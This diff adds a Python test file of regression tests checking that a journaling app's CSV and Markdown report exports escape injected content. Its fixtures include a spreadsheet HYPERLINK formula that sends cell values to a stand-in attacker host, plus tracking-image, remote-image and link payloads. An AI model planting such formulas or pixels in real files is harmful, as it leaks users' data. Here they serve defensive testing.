@@ -1,0 +1,38 @@
+"""Attacks found by the adversarial review (issue 11), each named after what it tries; every
+test here failed on the code before its fix."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+
+from journal_app.sharing import Insight
+from journal_app.theme_report import Report, to_csv, to_markdown
+from journal_app.themes.model import Theme, ThemeView
+
+FORMULA = '=HYPERLINK("https://evil.example/?q="&A2&B2,"Voir")'
+HOSTILE_MARKDOWN = ['<img src="https://evil.example/p.png">', "![](https://evil.example/p.png)",
+                    "[cliquez ici](https://evil.example)", "# Un titre qui n'en est pas un"]
+
+
+def report_quoting(*texts: str, label: str = "Le temps") -> Report:
+    insights = [Insight(f"i{n}", "2026-W48", "free", "", "fr", text, "0" * 64) for n, text in enumerate(texts)]
+    view = ThemeView(Theme("t1", label, [i.id for i in insights]), insights, [("2026-W48", len(insights))],
+                     insights)
+    return Report("Cercle du jeudi", 3, [view], 0, len(insights))
+
+
+def test_csv_injection_a_quote_never_becomes_a_spreadsheet_formula():
+    text = to_csv(report_quoting(FORMULA, "+1 pour moi", "-moins", "@toi", "\tcaché", label="=1+1"), "fr")
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells
+    assert "'" + FORMULA in cells and "'=1+1" in cells  # the words are kept, shown as text
+
+
+def test_markdown_injection_a_quote_never_becomes_html_a_link_or_an_image():
+    text = to_markdown(report_quoting(*HOSTILE_MARKDOWN, label="<b>Thème</b>"), "fr")
+    unescaped = re.compile(r"(?<!\\)(<|!\[|\]\()")  # a tag, an image, a link's "](" target
+    assert not unescaped.search(text), unescaped.search(text)
+    assert "\n> # " not in text and "\n> \\# Un titre" in text
+    assert "\\<img src=" in text and "\\<b\\>Thème" in text  # escaped, still readable as written
